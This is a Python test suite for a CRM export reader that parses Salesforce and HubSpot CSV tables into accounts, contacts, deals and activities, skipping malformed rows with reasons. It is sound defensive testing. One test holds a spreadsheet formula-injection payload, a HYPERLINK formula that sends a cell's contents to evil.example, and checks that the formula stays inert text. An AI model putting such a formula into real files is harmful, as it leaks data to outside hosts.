"""CRM tables: the object is told by its columns, and a bad row never spoils its neighbours."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from talktrack.core.crm_headers import Headers, built_in_headers
from talktrack.core.errors import SourceUnreadableError
from talktrack.core.reference import Account, Contact, Deal, StageChange
from talktrack.core.tables import ACCOUNTS
from talktrack.ingestion.reference.crm.rows import Activity, Competitor, ContactRole, Gone, Row
from talktrack.ingestion.reference.crm.table import read
from talktrack.ingestion.reference.skipped import Skipped


def findings(data: str | bytes, headers: Headers | None = None) -> list[Any]:
    """Return what the rows of a table say."""
    return list(read(data.encode() if isinstance(data, str) else data, headers or built_in_headers()))


def records(data: str | bytes, headers: Headers | None = None) -> list[Any]:
    """Return the records of a table, or the reasons of rows that are none."""
    return [row.record if isinstance(row, Row) else row.reason for row in findings(data, headers)]


def test_accounts() -> None:
    """The domain comes from the website, ids have eighteen characters."""
    text = "Id,Name,Industry,Website,NumberOfEmployees\n0011N00000abcDE,Acme,Retail,https://www.Acme.example/x,250\n"

    assert records(text) == [
        Account(id="0011N00000abcDEQAY", name="Acme", industry="Retail", domain="acme.example", employees=250)
    ]


def test_contacts_and_leads_are_external_and_users_internal() -> None:
    """Sellers come from the User table."""
    contact = records("Id,AccountId,FirstName,LastName,Email\n1,2,Jane,Doe,Jane@x.example\n")
    lead = records("Id,FirstName,LastName,Company,IsConverted\n5,Li,Wu,Globex,false\n6,Al,Fox,Globex,true\n")
    user = records("Id,Username,Name,Email,UserType\n3,sam,Sam Poe,sam@us.example,Standard\n4,bot,Bot,b@x,Guest\n")

    assert contact == [Contact(id="1", name="Jane Doe", email="jane@x.example", account_id="2")]
    assert lead == [Contact(id="5", name="Li Wu"), "lead_converted"]
    assert user == [Contact(id="3", name="Sam Poe", email="sam@us.example", affiliation="internal"), "user_not_staff"]


def test_a_deal_is_closed_only_if_it_says_so() -> None:
    """The close date of an open deal is a hope, not a date."""
    header = "Id,AccountId,Name,StageName,Amount,IsClosed,IsWon,CloseDate"
    won, open_ = '1,2,Big,Won,"1,200.5",true,true,2026-03-01', "3,2,Small,Demo,,false,false,2026-09-01"

    assert records(f"{header}\n{won}\n{open_}") == [
        Deal(
            id="1", account_id="2", name="Big", stage="Won", amount=1200.5, is_closed=True, is_won=True,
            closed_at=datetime(2026, 3, 1, tzinfo=UTC),
        ),
        Deal(id="3", account_id="2", name="Small", stage="Demo"),
    ]  # fmt: skip


def test_stage_history_in_utc() -> None:
    """Salesforce writes its offset without a colon."""
    text = "Id,OpportunityId,StageName,CreatedDate\n9,1,Demo,2026-03-01T10:00:00.000+0200\n"

    assert records(text) == [
        StageChange(id="9", deal_id="1", stage="Demo", changed_at=datetime(2026, 3, 1, 8, tzinfo=UTC))
    ]


def test_rows_that_belong_to_deals() -> None:
    """Competitors and contact roles stand in tables of their own."""
    assert records("Id,OpportunityId,CompetitorName\n1,2,Globex\n") == [Competitor(deal_id="2", name="Globex")]
    assert records("Id,OpportunityId,ContactId,Role\n1,2,3,Decider\n") == [ContactRole(deal_id="2", contact_id="3")]


def test_logged_meetings_and_calls() -> None:
    """A meeting has its start, a call when it was completed; deal and contact stand behind ids."""
    event = records(
        "Id,Subject,WhoId,WhatId,OwnerId,StartDateTime,EndDateTime,Location\n"
        "00U1,Intro,0031N00000abcDE,0061N00000abcDE,0051,2026-01-15T14:00:00Z,,https://x.zoom.us/j/1\n"
    )
    task = records(
        "Id,Subject,WhoId,WhatId,OwnerId,TaskSubtype,CallDurationInSeconds,CompletedDateTime,Status\n"
        "00T1,Call,00Q1,0011,0051,Call,600,2026-01-15T14:10:00Z,Completed\n"
    )

    assert event == [
        Activity(
            id="00U1", title="Intro", starts_at=datetime(2026, 1, 15, 14, tzinfo=UTC), ends_at=None,
            join_url="https://x.zoom.us/j/1", deal_id="0061N00000abcDEQAY", owner_id="0051",
            contact_ids=("0031N00000abcDEQAY",),
        )
    ]  # fmt: skip
    assert [(row.starts_at.minute, row.ends_at.minute, row.deal_id, row.contact_ids) for row in task] == [
        (0, 10, None, ())
    ]


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ("00T1,Email,,2026-01-15T14:10:00Z,Completed", "activity_not_a_call"),
        ("00T1,Call,60,,Completed", "activity_time_unknown"),
        ("00T1,Call,,2026-01-15T14:10:00Z,Completed", "activity_time_unknown"),
        ("00T1,Call,999999999,2026-01-15T14:10:00Z,Completed", "activity_time_unknown"),
        ("00T1,Call,60,2026-01-15T14:10:00Z,Not Started", "activity_not_held"),
        (",Call,60,2026-01-15T14:10:00Z,Completed", "id_missing"),
    ],
)
def test_tasks_that_are_no_calls(row: str, reason: str) -> None:
    """They have no place among the meetings."""
    assert records(f"Id,TaskSubtype,CallDurationInSeconds,CompletedDateTime,Status\n{row}\n") == [reason]


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        ("00U1,2026-01-15,2026-01-16,true,false", "activity_all_day"),
        ("00U1,2026-01-15T14:00:00Z,2026-01-15T15:00:00Z,false,true", "activity_is_copy"),
        ("00U1,,,false,false", "activity_time_unknown"),
    ],
)
def test_events_that_are_no_occasions(row: str, reason: str) -> None:
    """Whole days and the copies that Salesforce keeps for every invitee."""
    assert records(f"Id,StartDateTime,EndDateTime,IsAllDayEvent,IsChild\n{row}\n") == [reason]


def test_deleted_rows_and_when_rows_were_modified() -> None:
    """What decides between rows of one id comes along."""
    text = "Id,Name,Industry,IsDeleted,LastModifiedDate\n1,Acme,Retail,true,2026-01-01\n2,Bo,,0,2026-01-02\n,,,1,\n"
    day = datetime(2026, 1, 1, tzinfo=UTC)

    assert findings(text) == [
        Gone(ACCOUNTS, "1", day),
        Row(Account(id="2", name="Bo"), day.replace(day=2)),
        Skipped("id_missing"),
    ]


REPORT = """"Opportunity Name","Account Name","Stage","Amount","Close Date","Created Date","Opportunity Owner"
"Big","Acme","Closed Won","USD 1,200.50","3/1/2026","1/15/2026","Sam Poe"
"Small","Acme","Demo","900","12/24/2026","2/3/2026","Sam Poe"

"Acme Inc. Copyright (c) 2000-2026 salesforce.com, inc. All rights reserved."
"Confidential Information - Do Not Distribute"
"""


def test_a_report_has_labels_names_and_local_dates() -> None:
    """Nobody is identified, stages say how deals ended, and what stands below the rows is no row."""
    big, small, *rest = findings(REPORT)

    assert big == Row(
        Deal(
            id="", account_id="", name="Big", stage="Closed Won", amount=1200.5, is_closed=True, is_won=True,
            created_at=datetime(2026, 1, 15, tzinfo=UTC), closed_at=datetime(2026, 3, 1, tzinfo=UTC),
        ),
        account_name="Acme",
        owner_name="Sam Poe",
    )  # fmt: skip
    assert (small.record.created_at, small.closes_at) == (
        datetime(2026, 2, 3, tzinfo=UTC), datetime(2026, 12, 24, tzinfo=UTC),
    )  # fmt: skip
    assert rest == [Skipped("report_footer")] * 2


def test_hubspots_export() -> None:
    """Record ID, lists of ids, and labels of its own."""
    text = (
        "Record ID,Deal Name,Deal Stage,Pipeline,Amount,Create Date,Associated Company IDs,Associated Contact IDs\n"
        "77,Big,Demo booked,Sales,900,2026-01-15 14:30,5;6,8;9\n"
    )

    assert records(text) == [
        Deal(
            id="77", account_id="5", name="Big", stage="Demo booked", amount=900.0, contact_ids=["8", "9"],
            created_at=datetime(2026, 1, 15, 14, 30, tzinfo=UTC),
        )
    ]  # fmt: skip


def test_a_customers_own_labels() -> None:
    """The header map of the pipeline."""
    own = Headers({"Opportunity": {"Kennung": "Id", "Chance": "Name", "Phase": "StageName", "Betrag": "Amount"}})

    assert records("Kennung;Chance;Phase;Betrag\n1;Groß;Demo;1.200,50\n", own) == [
        Deal(id="1", account_id="", name="Groß", stage="Demo", amount=1200.5)
    ]


def test_bad_rows_are_skipped_with_a_reason() -> None:
    """Too few columns, no id and no date leave the good row alone."""
    bad = "1,2\n3,,Demo,2026-03-01\n4,2,,2026-03-01\n5,2,Demo,never\n"

    assert records(f"Id,OpportunityId,StageName,CreatedDate\n{bad}6,2,Demo,2026-03-01\n") == [
        "row_ragged", "opportunity_id_missing", "stage_name_missing", "date_invalid",
        StageChange(id="6", deal_id="2", stage="Demo", changed_at=datetime(2026, 3, 1, tzinfo=UTC)),
    ]  # fmt: skip


@pytest.mark.parametrize("separator", [";", "\t"])
def test_other_separators(separator: str) -> None:
    """Spreadsheets of other countries part columns differently."""
    text = "Id,Name,Industry\n1,Acme,Retail\n".replace(",", separator)

    assert records(text) == [Account(id="1", name="Acme", industry="Retail")]


@pytest.mark.parametrize(
    "data",
    [
        "Id,Name,Industry\n1,Café,Retail\n".encode("cp1252"),
        "Id,Name,Industry\n1,Café,Retail\n".encode("utf-16"),
        "Id,Name,Industry\n1,Café,Retail\n".encode("utf-8-sig"),
        b"Id,Name,Industry\r\n1,Caf\xe9,Retail\r\n",
    ],
)
def test_encodings(data: bytes) -> None:
    """Marks are believed; what is not UTF-8 came from Windows."""
    assert records(data) == [Account(id="1", name="Café", industry="Retail")]


def test_encodings_may_change_from_row_to_row() -> None:
    """Somebody put two exports together."""
    data = b"Id,Name,Industry\n1,Caf\xe9,Retail\n2,Caf\xc3\xa9,Retail\n"

    assert [row.name for row in records(data)] == ["Café", "Café"]


def test_formulas_are_text() -> None:
    """Nothing is ever evaluated."""
    formula = '=HYPERLINK("http://evil.example?x="&A1,"Acme")'
    quoted = formula.replace('"', '""')

    assert records(f'Id,Name,Industry\n1,"{quoted}",@SUM(1)\n') == [Account(id="1", name=formula, industry="@SUM(1)")]


def test_a_thousand_columns() -> None:
    """Customers love fields of their own."""
    own = ",".join(f"Field_{n}__c" for n in range(1000))
    text = f"{own},Id,Name,Industry\n{',' * 1000}1,Acme,Retail\n"

    assert records(text) == [Account(id="1", name="Acme", industry="Retail")]


@pytest.mark.parametrize("day", ["0000-01-01", "9999-12-31", "9999-12-31T23:59:59-0800", "31/02/2026", "1900", "NaT"])
def test_dates_that_cannot_be_are_unknown(day: str) -> None:
    """Year 0 and year 9999 stand for nothing in a CRM."""
    (deal,) = records(f"Id,AccountId,StageName,IsClosed,CloseDate,CreatedDate\n1,2,Won,true,{day},{day}\n")

    assert (deal.created_at, deal.closed_at) == (None, None)


@pytest.mark.parametrize(
    "amount", ["1e400", "-1e400", "9" * 400, "9" * 5_000_000, "nan", "inf", "1e15", "12/3", "€", "--5", "1.2.3,4,5"]
)
def test_amounts_that_cannot_be_are_unknown(amount: str) -> None:
    """No currency holds so much; the deal stays."""
    found = records(f'Id,AccountId,StageName,Amount\n1,2,Won,"{amount}"\n3,4,Won,5\n')

    assert [getattr(row, "amount", row) for row in found] in ([None, 5.0], ["row_ragged", 5.0])


def test_accounts_may_be_each_others_parents() -> None:
    """Nobody walks up the tree."""
    text = "Id,Name,Industry,ParentId\n1,A,,2\n2,B,,1\n3,C,,3\n"

    assert [row.id for row in records(text)] == ["1", "2", "3"]


def test_a_quote_that_never_closes_costs_what_it_holds() -> None:
    """The reader finds its way back after the longest field there may be."""
    rows = "\n".join(f"{n},Acme,Retail" for n in range(20_000))
    found = records(f'Id,Name,Industry\n0,"Acme,Retail\n{rows}\n')

    assert found.count("row_unreadable") == 1
    assert len(found) > 10_000


def test_unknown_columns_are_unreadable() -> None:
    """A table that is none of the known objects is refused as a whole."""
    with pytest.raises(SourceUnreadableError) as caught:
        findings(b"a,b,c\n1,2,3\n")

    assert caught.value.reason == "crm_columns_unknown"


def test_a_header_without_end_is_unreadable() -> None:
    """A line longer than any field may be."""
    with pytest.raises(SourceUnreadableError) as caught:
        findings(b"Id,Name,Industry," + b"x" * 200_000)

    assert caught.value.reason == "crm_columns_unknown"


@given(st.text(max_size=200))
def test_any_rows_end_in_records_or_reasons(body: str) -> None:
    """Whatever stands below a known header is read or skipped."""
    text = "Id,AccountId,StageName,Amount,CreatedDate,CloseDate,IsClosed,IsDeleted\n" + body.replace("\0", "")

    assert all(isinstance(row, Row | Gone | Skipped) for row in findings(text.encode("utf-8", "replace")))
